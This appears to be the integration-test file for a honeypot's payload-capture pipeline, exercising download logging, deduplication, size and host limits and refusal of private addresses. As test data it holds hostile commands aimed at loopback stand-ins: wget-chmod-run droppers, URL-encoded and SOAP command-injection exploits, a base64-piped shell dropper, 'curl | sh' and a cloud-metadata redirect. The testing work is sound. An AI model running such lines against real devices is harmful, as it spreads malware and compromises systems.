"""
cases_capture.py - the payload pipeline (issue 5), run by run.py.

Real servers on loopback serve harmless stand-ins (tests/integration/payload_fixtures.py):
Python's http.server (counting every request and every byte it sends), pyftpdlib's FTP server
and tftpd-hpa's in.tftpd.  Attackers are played by OpenSSH's ssh (the emulated shell's wget, curl,
tftp, ftpget) and curl (exploits sent to the trap).  The sensor is allowed to reach 127.0.0.1 only
([capture] allow), so everything else must be refused however it is reached.
"""
import hashlib
import http.server
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import threading
import time
import urllib.parse

import payload_fixtures as fx
from harness import Service, Skip, T, can_connect, free_port, wait_for
from cases import stop_and_read
from cases_ssh import need, sshpass_ssh, ssh_daemon, ssh_service

ALL = []


def case(fn):
    ALL.append((fn.__name__, fn))
    return fn


def sha256(b):
    return hashlib.sha256(b).hexdigest()


# ---- servers ----------------------------------------------------------------------------

class WebServer:
    """http.server on host:port in a thread: files, redirects, huge bodies; counts requests and bytes."""

    def __init__(self, host="127.0.0.1"):
        self.files = {}
        self.redirects = {}
        self.counts = {}
        self.sent = {}
        self.user_agents = []
        self.delays = {}
        self.fail_first = {}                       # path -> how many 503s before the file
        self.lock = threading.Lock()
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def do_GET(self):
                path = urllib.parse.urlsplit(self.path).path
                with server.lock:
                    server.counts[path] = server.counts.get(path, 0) + 1
                    server.user_agents.append(self.headers.get("User-Agent", ""))
                time.sleep(server.delays.get(path, 0))
                with server.lock:
                    busy = server.fail_first.get(path, 0)
                    if busy:
                        server.fail_first[path] = busy - 1
                if busy:
                    self.send_error(503)
                    return
                if path in server.redirects:
                    self.send_response(302)
                    self.send_header("Location", server.redirects[path])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if path.startswith("/huge"):
                    self.huge(path, announce=path == "/huge-announced")
                    return
                body = server.files.get(path)
                if body is None:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def huge(self, path, announce):
                """100 MB of data, with or without Content-Length (then the end is the close)."""
                total = 100 << 20
                self.send_response(200)
                if announce:
                    self.send_header("Content-Length", str(total))
                else:
                    self.send_header("Connection", "close")
                self.end_headers()
                chunk = os.urandom(64 << 10)
                sent = 0
                try:
                    while sent < total:
                        self.wfile.write(chunk)
                        sent += len(chunk)
                        with server.lock:
                            server.sent[path] = sent
                except OSError:
                    pass
                self.close_connection = True

        self.httpd = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.httpd.daemon_threads = True
        self.host = host
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def url(self, path):
        return "http://%s:%d%s" % (self.host, self.port, path)

    def count(self, path):
        with self.lock:
            return self.counts.get(path, 0)

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class FtpServer:
    """pyftpdlib (python3-pyftpdlib), anonymous, read-only, serving a directory."""

    def __init__(self, files):
        try:
            import pyftpdlib  # noqa: F401
        except ImportError:
            raise Skip("python3-pyftpdlib is not installed")
        self.dir = tempfile.mkdtemp(prefix="hanipo-ftp-")
        for name, body in files.items():
            with open(os.path.join(self.dir, name), "wb") as f:
                f.write(body)
        self.port = free_port()
        self.log = open(os.path.join(self.dir, ".log"), "wb")
        self.proc = subprocess.Popen(["/usr/bin/python3", "-m", "pyftpdlib", "-i", "127.0.0.1", "-p",
                                      str(self.port), "-d", self.dir], stdout=self.log, stderr=self.log)
        wait_for(lambda: can_connect(self.port), T(10), what="FTP server")

    def retrieved(self, name):
        with open(os.path.join(self.dir, ".log"), "rb") as f:
            return f.read().count(b"RETR " + os.path.join(self.dir, name).encode() + b" completed=1")

    def close(self):
        self.proc.kill()
        self.proc.wait()
        self.log.close()
        shutil.rmtree(self.dir, ignore_errors=True)


class TftpServer:
    """tftpd-hpa's in.tftpd in the foreground on a free UDP port of 127.0.0.1."""

    def __init__(self, files):
        binary = "/usr/sbin/in.tftpd"
        if not os.access(binary, os.X_OK):
            raise Skip("tftpd-hpa is not installed")
        self.dir = tempfile.mkdtemp(prefix="hanipo-tftp-")
        os.chmod(self.dir, 0o755)
        for name, body in files.items():
            p = os.path.join(self.dir, name)
            with open(p, "wb") as f:
                f.write(body)
            os.chmod(p, 0o644)
        self.port = free_port()
        self.proc = subprocess.Popen([binary, "-L", "-s", "-u", "nobody", "-a", "127.0.0.1:%d" % self.port,
                                      self.dir], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(0.3)
        if self.proc.poll() is not None:
            raise AssertionError("in.tftpd exited with %s" % self.proc.returncode)

    def close(self):
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)




# ---- helpers ----------------------------------------------------------------------------

ALLOW_LOOPBACK = {"allow": "127.0.0.1/32", "retries": "0", "dedup_window": "1h"}


def capture_daemon(ctx, label, capture=None, personality="debian"):
    conf = dict(ALLOW_LOOPBACK)
    conf.update(capture or {})
    return ssh_daemon(ctx, label, [ssh_service(personality=personality)], capture=conf)


def shell(d, script, timeout=None):
    """Run a command line in the emulated shell over OpenSSH's ssh; returns its output."""
    need("sshpass", "ssh")
    r = sshpass_ssh(d.svc("ssh").port, "hunter2", [script], timeout=timeout or T(90))
    return r.stdout.decode("utf-8", "replace") + r.stderr.decode("utf-8", "replace")


def downloads(d, url=None):
    evs = [e for e in d.events() if e["eventid"] in ("session.file_download", "session.file_download.failed")]
    return [e for e in evs if url is None or e["url"] == url]


def wait_download(d, url, count=1, timeout=None):
    return d.wait_event(lambda e: e["eventid"].startswith("session.file_download") and e.get("url") == url,
                        timeout=timeout or T(30), what="download event of %s" % url, count=count)


def check_stored(d, body):
    """payloads/<sha256> holds exactly body, mode 0400, not executable."""
    p = os.path.join(d.data_dir, "payloads", sha256(body))
    st = os.lstat(p)
    assert stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o400, oct(st.st_mode)
    with open(p, "rb") as f:
        assert f.read() == body


def check_classified(ev, name):
    want = fx.expected(name)
    assert ev["kind"] == want["kind"], (name, ev)
    assert ev["family"] == want["family"], (name, ev)
    if want.get("elf_arch"):
        assert ev["elf_arch"] == want["elf_arch"], (name, ev)


def cli(d, *args):
    r = subprocess.run([os.environ.get("HANIPO_BIN") or os.path.join(os.path.dirname(__file__), "..", "..",
                                                                      "hanipo"),
                        "payloads", "-c", d.config_path] + list(args), capture_output=True, timeout=T(30))
    return r.returncode, r.stdout.decode("utf-8", "replace")


# ---- cases --------------------------------------------------------------------------------

@case
def capture_shell_downloads_everything_once(ctx):
    """A bot's session: wget a bins.sh, run it, curl, tftp, ftpget, fetch bins.sh again.  Every URL is
    requested exactly once, stored by SHA-256 with the right type and family, mined URLs included."""
    web = WebServer()
    ctx.defer(web.close)
    ftp = FtpServer({"gafgyt.bin": fx.fixture("gafgyt-elf")})
    ctx.defer(ftp.close)
    tftp = TftpServer({"tsunami.bin": fx.fixture("tsunami-elf")})
    ctx.defer(tftp.close)
    files = {"/mirai.arm": "mirai-elf", "/x.mips": "elf-mips", "/miner.txt": "xmrig-text",
             "/never-run.x86": "elf-x86_64", "/host.bin": "host-elf"}    # host-elf: a runnable exit(0)
    for path, name in files.items():
        web.files[path] = fx.fixture(name)
    bins = ("#!/bin/sh\n"
            "cd /tmp || cd /var/run\n"
            "wget %s -O mirai.arm; chmod 777 mirai.arm; ./mirai.arm\n"
            "busybox wget %s -O x.mips; chmod 777 x.mips; ./x.mips\n"
            "if false; then wget %s; fi\n" % (web.url("/mirai.arm"), web.url("/x.mips"),
                                                web.url("/never-run.x86"))).encode()
    web.files["/bins.sh"] = bins
    d = capture_daemon(ctx, "cap-shell", personality="busybox")     # an IoT box: tftp, ftpget
    out = shell(d, "cd /tmp; wget %s; sh bins.sh; wget %s; wget %s; tftp -g -r tsunami.bin 127.0.0.1 %d; "
                   "ftpget -P %d 127.0.0.1 gafgyt.bin gafgyt.bin; wget -q %s -O again.sh; ls -la /tmp"
                % (web.url("/bins.sh"), web.url("/miner.txt"), web.url("/host.bin"), tftp.port, ftp.port,
                   web.url("/bins.sh")))
    for f in ("bins.sh", "mirai.arm", "x.mips", "miner.txt", "host.bin", "tsunami.bin", "gafgyt.bin", "again.sh"):
        assert f in out, "%s not in the emulated /tmp:\n%s" % (f, out)
    wait_download(d, web.url("/never-run.x86"))
    evs = stop_and_read(d)
    # requested exactly once each, with the tool's User-Agent
    for path in ["/bins.sh"] + list(files):
        assert web.count(path) == 1, "%s requested %d times" % (path, web.count(path))
    assert ftp.retrieved("gafgyt.bin") == 1, open(os.path.join(ftp.dir, ".log"), "rb").read()[-2000:]
    assert web.user_agents and all(ua.startswith("Wget") for ua in web.user_agents), web.user_agents
    ok = [e for e in evs if e["eventid"] == "session.file_download"]
    by_url = {}
    for e in ok:
        by_url.setdefault(e["url"], []).append(e)
    served = dict((web.url(p), fx.fixture(n)) for p, n in files.items())
    served[web.url("/bins.sh")] = bins
    served["tftp://127.0.0.1:%d/tsunami.bin" % tftp.port] = fx.fixture("tsunami-elf")
    served["ftp://127.0.0.1:%d/gafgyt.bin" % ftp.port] = fx.fixture("gafgyt-elf")
    names = dict((web.url(p), n) for p, n in files.items())
    names["tftp://127.0.0.1:%d/tsunami.bin" % tftp.port] = "tsunami-elf"
    names["ftp://127.0.0.1:%d/gafgyt.bin" % ftp.port] = "gafgyt-elf"
    for url, body in served.items():
        assert url in by_url, "no session.file_download for %s: %s" % (url, sorted(by_url))
        for e in by_url[url]:
            assert e["shasum"] == sha256(body) and e["size"] == len(body), e
            assert e["outfile"] == "payloads/" + sha256(body)
            assert e["session"] and e["protocol"] == "ssh", e
            if url in names:
                check_classified(e, names[url])
        check_stored(d, body)
    # bins.sh fetched twice by the shell: once for real, once answered from the window
    outcomes = sorted(e["outcome"] for e in by_url[web.url("/bins.sh")] if e["found_in"] == "shell")
    assert outcomes == ["cached", "fetched"], outcomes
    assert by_url[web.url("/bins.sh")][0]["family"] == "shell-dropper"
    # a URL only the script names, never run: found by mining the stored script
    mined = by_url[web.url("/never-run.x86")]
    assert mined[0]["found_in"] == "payload" and mined[0]["depth"] == 1, mined
    assert mined[0]["parent"] == sha256(bins), mined
    # one payload.new per distinct payload, however often it arrived
    news = [e["shasum"] for e in evs if e["eventid"] == "payload.new"]
    assert sorted(news) == sorted(set(news)) and set(news) >= set(sha256(b) for b in served.values()), news
    # not logged again as uploads: the shell wrote exactly what was downloaded
    ups = [e for e in evs if e["eventid"] == "session.file_upload"]
    assert not ups, ups
    # the CLI over the index
    rc, listing = cli(d, "list")
    assert rc == 0, listing
    for body in served.values():
        assert sha256(body)[:16] in listing, listing
    rc, shown = cli(d, "show", sha256(fx.fixture("mirai-elf")))
    assert rc == 0 and "mirai" in shown and web.url("/mirai.arm") in shown, shown
    rc, found = cli(d, "search", "tsunami")
    assert rc == 0 and sha256(fx.fixture("tsunami-elf"))[:16] in found, found


@case
def capture_refuses_private_targets(ctx):
    """Only the allowed 127.0.0.1 is reachable: a redirect to 127.0.0.2 or 10.0.0.1, a direct URL to
    127.0.0.2 and a name that resolves to loopback-but-not-allowed are refused at connect time."""
    web = WebServer()
    ctx.defer(web.close)
    other = WebServer(host="127.0.0.2")           # must never see a request
    ctx.defer(other.close)
    other.files["/x"] = b"should never be fetched\n"
    web.redirects["/to-127-0-0-2"] = other.url("/x")
    web.redirects["/to-10"] = "http://10.0.0.1:%d/x" % other.port
    web.redirects["/to-link-local"] = "http://169.254.169.254/latest/meta-data/"
    d = capture_daemon(ctx, "cap-refuse")
    out = shell(d, "cd /tmp; wget %s; wget %s; wget %s; curl -O %s; echo end"
                % (web.url("/to-127-0-0-2"), web.url("/to-10"), web.url("/to-link-local"), other.url("/x")))
    assert "end" in out
    evs = stop_and_read(d)
    assert sum(other.counts.values()) == 0, other.counts
    failed = dict((e["url"], e) for e in evs if e["eventid"] == "session.file_download.failed")
    want = {web.url("/to-127-0-0-2"): ("127.0.0.2", "loopback"), web.url("/to-10"): ("10.0.0.1", "private"),
            web.url("/to-link-local"): ("169.254.169.254", "link-local"),
            other.url("/x"): ("127.0.0.2", "loopback")}
    for url, (ip, why) in want.items():
        assert url in failed, "no refusal logged for %s: %s" % (url, sorted(failed))
        e = failed[url]
        assert e["reason"] == "refused_address" and e["refused_ip"] == ip and e["refused_why"] == why, e
    assert not [e for e in evs if e["eventid"] == "session.file_download"]
    assert os.listdir(os.path.join(d.data_dir, "payloads")) == [], "something was stored"


@case
def capture_off_still_logs_urls(ctx):
    """fetch = false: nothing is downloaded, every URL is still logged with reason 'disabled'."""
    web = WebServer()
    ctx.defer(web.close)
    web.files["/x.sh"] = b"#!/bin/sh\necho hi\n"
    d = capture_daemon(ctx, "cap-off", capture={"fetch": "false"})
    shell(d, "wget %s; curl %s | sh" % (web.url("/x.sh"), web.url("/x.sh")))
    evs = stop_and_read(d)
    assert web.count("/x.sh") == 0
    fails = [e for e in evs if e["eventid"] == "session.file_download.failed"]
    assert [(e["tool"], e["reason"]) for e in fails] == [("wget", "disabled"), ("curl", "disabled")], fails
    assert all(e["url"] == web.url("/x.sh") for e in fails)


@case
def capture_cuts_at_size_cap(ctx):
    """max_size = 1M: a 100 MB body is refused when announced and cut when it is not; nothing is kept."""
    web = WebServer()
    ctx.defer(web.close)
    d = capture_daemon(ctx, "cap-size", capture={"max_size": "1M"})
    shell(d, "cd /tmp; wget %s; wget %s; echo end" % (web.url("/huge-announced"), web.url("/huge-stream")))
    for path in ("/huge-announced", "/huge-stream"):
        wait_download(d, web.url(path))
    time.sleep(0.5)
    evs = stop_and_read(d)
    for path in ("/huge-announced", "/huge-stream"):
        e = [x for x in evs if x.get("url") == web.url(path)]
        assert len(e) == 1 and e[0]["eventid"] == "session.file_download.failed", e
        assert e[0]["reason"] == "too_large", e
    # the stream was cut near the cap, not read to its end
    assert web.sent.get("/huge-stream", 0) < 32 << 20, web.sent
    assert os.listdir(os.path.join(d.data_dir, "payloads")) == [], "a partial body was kept"


@case
def capture_quota_evicts_oldest(ctx):
    """quota = 1M: the third 400 KB payload pushes the least recently seen one out, with an event."""
    web = WebServer()
    ctx.defer(web.close)
    bodies = dict(("/p%d.bin" % i, os.urandom(400 << 10)) for i in range(3))
    web.files.update(bodies)
    d = capture_daemon(ctx, "cap-quota", capture={"quota": "1M"})
    for path in sorted(bodies):                    # one after the other: p0 is the oldest
        shell(d, "wget -q %s" % web.url(path))
        wait_download(d, web.url(path))
    d.wait_event(lambda e: e["eventid"] == "payload.evicted", what="payload.evicted")
    evs = stop_and_read(d)
    ev = [e for e in evs if e["eventid"] == "payload.evicted"]
    assert [e["shasum"] for e in ev] == [sha256(bodies["/p0.bin"])], ev
    pdir = os.path.join(d.data_dir, "payloads")
    assert not os.path.exists(os.path.join(pdir, sha256(bodies["/p0.bin"])))
    for p in ("/p1.bin", "/p2.bin"):
        check_stored(d, bodies[p])
    rc, shown = cli(d, "show", sha256(bodies["/p0.bin"]))
    assert rc == 0 and "evicted" in shown, shown


@case
def capture_per_host_budget(ctx):
    """At most [capture] per_host new downloads go to one host per hour, whatever the sessions: the
    next new URLs of that host are logged with reason host_limit and never requested; a URL already
    fetched is still answered from the table, and another host keeps its own budget."""
    need("curl")
    a, b = WebServer(), WebServer(host="127.0.0.2")
    ctx.defer(a.close)
    ctx.defer(b.close)
    for i in range(1, 6):
        a.files["/%d" % i] = b"#!/bin/sh\necho %d\n" % i
    b.files["/b"] = b"#!/bin/sh\necho b\n"
    d = ctx.daemon("cap-host", [Service("trap", flush_after="200ms")],
                   capture=dict(ALLOW_LOOPBACK, allow="127.0.0.0/8", per_host="3")).start()
    base = "http://127.0.0.1:%d" % d.svc("trap").port
    run = lambda cmd: subprocess.run(["curl", "-s", "-m", "5", "-o", "/dev/null", base + "/shell?cmd=" +
                                      urllib.parse.quote(cmd)], timeout=T(20))
    run(";".join("wget %s" % a.url("/%d" % i) for i in range(1, 4)))
    for i in range(1, 4):
        wait_download(d, a.url("/%d" % i))
    run("wget %s; wget %s; wget %s; wget %s" % (a.url("/4"), a.url("/5"), a.url("/1"), b.url("/b")))
    for u in (a.url("/4"), a.url("/5"), b.url("/b")):
        wait_download(d, u)
    wait_download(d, a.url("/1"), count=2)
    evs = stop_and_read(d)
    dl = [e for e in evs if e["eventid"].startswith("session.file_download")]
    for p in ("/4", "/5"):
        e = [x for x in dl if x["url"] == a.url(p)]
        assert len(e) == 1 and e[0]["eventid"] == "session.file_download.failed", e
        assert e[0]["reason"] == "host_limit", e
        assert a.count(p) == 0, a.counts
    again = [x for x in dl if x["url"] == a.url("/1")]
    assert [x["eventid"] for x in again] == ["session.file_download"] * 2, again
    assert again[1]["outcome"] == "cached", again
    assert [x["eventid"] for x in dl if x["url"] == b.url("/b")] == ["session.file_download"], dl
    assert sum(a.count("/%d" % i) for i in range(1, 6)) == 3 and b.count("/b") == 1, (a.counts, b.counts)


@case
def capture_trap_exploit_urls(ctx):
    """Exploits sent to a catch-all trap port (real curl): URL-encoded command injection, a SOAP body with
    $(wget ...), a base64-wrapped dropper, tftp and ftpget in an injected command; each fetched once."""
    need("curl")
    web = WebServer()
    ctx.defer(web.close)
    ftp = FtpServer({"f.bin": fx.fixture("mozi-elf")})
    ctx.defer(ftp.close)
    tftp = TftpServer({"t.bin": fx.fixture("xorddos-elf")})
    ctx.defer(tftp.close)
    web.files["/jaws"] = fx.fixture("mirai-text")
    web.files["/huawei.mips"] = fx.fixture("elf-mips")
    web.files["/b64.sh"] = fx.fixture("shellbot-text")
    d = ctx.daemon("cap-trap", [Service("trap", udp=1, flush_after="200ms")],
                   capture=dict(ALLOW_LOOPBACK)).start()
    port = d.svc("trap").port
    base = "http://127.0.0.1:%d" % port
    run = lambda *a: subprocess.run(["curl", "-s", "-m", "5", "-o", "/dev/null"] + list(a), timeout=T(20))
    run(base + "/shell?cd+/tmp;rm+-rf+*;wget+" + urllib.parse.quote(web.url("/jaws"), safe="") +
        ";sh+/tmp/jaws")
    run("-X", "POST", base + "/ctrlt/DeviceUpgrade_1", "-d",
        '<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -O /tmp/x '
        '%s)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>' % web.url("/huawei.mips"))
    import base64
    blob = base64.b64encode(("cd /tmp; wget %s; sh b64.sh" % web.url("/b64.sh")).encode()).decode()
    run(base + "/cgi-bin/x.cgi", "--data-urlencode", "cmd=echo %s | base64 -d | sh" % blob)
    run(base + "/setup.cgi?todo=syscmd&cmd=" + urllib.parse.quote(
        "tftp -g -r t.bin 127.0.0.1 %d; ftpget -P %d 127.0.0.1 f.bin f.bin" % (tftp.port, ftp.port)))
    urls = {web.url("/jaws"): "mirai-text", web.url("/huawei.mips"): "elf-mips",
            web.url("/b64.sh"): "shellbot-text", "tftp://127.0.0.1:%d/t.bin" % tftp.port: "xorddos-elf",
            "ftp://127.0.0.1:%d/f.bin" % ftp.port: "mozi-elf"}
    # a datagram's source may be forged: its URLs are logged, never fetched
    web.files["/udp.sh"] = b"#!/bin/sh\n"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(("cd /tmp; wget %s; sh udp.sh" % web.url("/udp.sh")).encode(), ("127.0.0.1", d.svc("trap").uport))
    u.close()
    udp = wait_download(d, web.url("/udp.sh"))[0]
    assert udp["eventid"] == "session.file_download.failed" and udp["reason"] == "udp_unverified", udp
    assert udp["transport"] == "udp", udp
    for url in urls:
        wait_download(d, url)
    evs = stop_and_read(d)
    assert web.count("/udp.sh") == 0
    for url, name in urls.items():
        e = [x for x in evs if x.get("url") == url and x["eventid"] == "session.file_download"]
        assert len(e) == 1, (url, [x for x in evs if x.get("url") == url])
        # HTTP on a trap port is handed to the web engine, which feeds the pipeline
        assert e[0]["found_in"] == "http" and e[0]["protocol"] == "http" and e[0]["service"] == "trap", e[0]
        assert e[0]["shasum"] == sha256(fx.fixture(name)), e[0]
        check_classified(e[0], name)
        check_stored(d, fx.fixture(name))
    for p in ("/jaws", "/huawei.mips", "/b64.sh"):
        assert web.count(p) == 1, (p, web.counts)
    assert ftp.retrieved("f.bin") == 1


@case
def capture_slow_download_two_sessions_one_leaves(ctx):
    """A slow download: the emulated wget waits for it (the sensor does not), a second session asking
    for the same URL meanwhile joins the same transfer, and the first session disconnecting in the
    middle neither crashes anything nor loses its events."""
    need("sshpass", "ssh")
    web = WebServer()
    ctx.defer(web.close)
    web.files["/slow.arm"] = fx.fixture("mirai-elf")
    web.delays["/slow.arm"] = 3.0
    d = capture_daemon(ctx, "cap-slow")
    port = d.svc("ssh").port
    url = web.url("/slow.arm")

    def start(script):
        from cases_ssh import SSH_OPTS
        return subprocess.Popen(["sshpass", "-p", "pw", "ssh"] + SSH_OPTS + ["-p", str(port), "root@127.0.0.1",
                                script], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               stdin=subprocess.DEVNULL)
    first = start("cd /tmp; wget %s; echo first-done" % url)
    wait_for(lambda: web.count("/slow.arm") == 1, T(10), what="the first request")
    second = start("cd /tmp; wget %s && ls -l slow.arm; echo second-done" % url)
    time.sleep(0.5)
    # meanwhile the sensor answers others at once
    t0 = time.time()
    quick = shell(d, "echo quick")
    assert "quick" in quick and time.time() - t0 < T(2.5), quick
    first.kill()                                   # leaves while its line waits
    first.wait()
    out, _ = second.communicate(timeout=T(30))
    out = out.decode("utf-8", "replace")
    assert "saved [%d/%d]" % (len(fx.fixture("mirai-elf")), len(fx.fixture("mirai-elf"))) in out, out
    assert "slow.arm" in out and "second-done" in out, out
    d.wait_event(lambda e: e["eventid"] == "session.file_download" and e.get("url") == url, count=2,
                 timeout=T(15), what="both sessions' download events")
    evs = stop_and_read(d)
    assert web.count("/slow.arm") == 1, web.counts
    dl = [e for e in evs if e["eventid"] == "session.file_download" and e["url"] == url]
    assert sorted(e["outcome"] for e in dl) == ["cached", "fetched"], dl
    assert len(set(e["session"] for e in dl)) == 2, dl
    inputs = [e for e in evs if e["eventid"] == "command.input" and url in e["input"]]
    assert len(inputs) == 2, inputs                # the line of the session that left is logged too
    check_stored(d, fx.fixture("mirai-elf"))


@case
def capture_retries_transient_failures(ctx):
    """A 503 is retried after retry_delay (doubling); a 404 is not; the shell's wget waits throughout."""
    web = WebServer()
    ctx.defer(web.close)
    body = fx.fixture("gafgyt-text")
    web.files["/busy.sh"] = body
    web.fail_first["/busy.sh"] = 2
    d = capture_daemon(ctx, "cap-retry", capture={"retries": "2", "retry_delay": "300ms"})
    t0 = time.time()
    out = shell(d, "cd /tmp; wget %s; wget %s; echo end" % (web.url("/busy.sh"), web.url("/missing")))
    took = time.time() - t0
    assert "saved" in out and "404" in out and "end" in out, out
    assert took >= 0.85, took                      # 300 ms + 600 ms of back-off
    evs = stop_and_read(d)
    assert web.count("/busy.sh") == 3 and web.count("/missing") == 1, web.counts
    ok = [e for e in evs if e["eventid"] == "session.file_download"]
    assert len(ok) == 1 and ok[0]["shasum"] == sha256(body) and ok[0]["family"] == "gafgyt", ok
    bad = [e for e in evs if e["eventid"] == "session.file_download.failed"]
    assert len(bad) == 1 and bad[0]["reason"] == "not_found" and bad[0]["status"] == 404, bad
